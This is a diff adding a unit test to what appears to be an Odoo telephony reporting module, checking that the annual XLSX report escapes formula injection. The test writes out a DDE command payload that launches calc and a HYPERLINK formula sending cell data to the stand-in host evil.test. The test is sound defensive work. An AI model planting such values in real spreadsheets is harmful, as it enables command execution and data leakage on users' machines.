@@ -247,6 +247,30 @@ class TestAnnualReport(UsageImportCase, TelephonyMoneyCase):
             figures["this"]["spend"][self.tadiran.display_name][0],
         )
 
+    def test_spreadsheet_runs_no_name_as_a_formula(self):
+        # C20: an HR officer renames a department, the IT manager a fault
+        # kind, to something a spreadsheet program would run.
+        link = '=HYPERLINK("https://evil.test/?"&B2,"Open")'
+        departments = self.env["telephony.usage"].search([]).department_id
+        departments.write({"name": "+cmd|' /C calc'!A0"})
+        self.cat_device.name = link
+        content, _kind = self.env["ir.actions.report"]._render(
+            "council_telephony_reports.action_report_annual_xlsx", self.report.ids
+        )
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        texts = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    self.assertNotEqual(cell.data_type, "f", cell.coordinate)
+                    if isinstance(cell.value, str):
+                        texts.append(cell.value)
+        self.assertIn(f"'{link}", texts)
+        self.assertIn("'+cmd|' /C calc'!A0", texts)
+        # Figures stay numbers.
+        summary = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows()}
+        self.assertIsInstance(summary["Phone faults"], int)
+
     def test_who_gets_the_annual_report(self):
         self.env["telephony.annual.report"].with_user(self.head).create({"year": 2026})
         for user in (self.agent, self.employee, self.treasury):
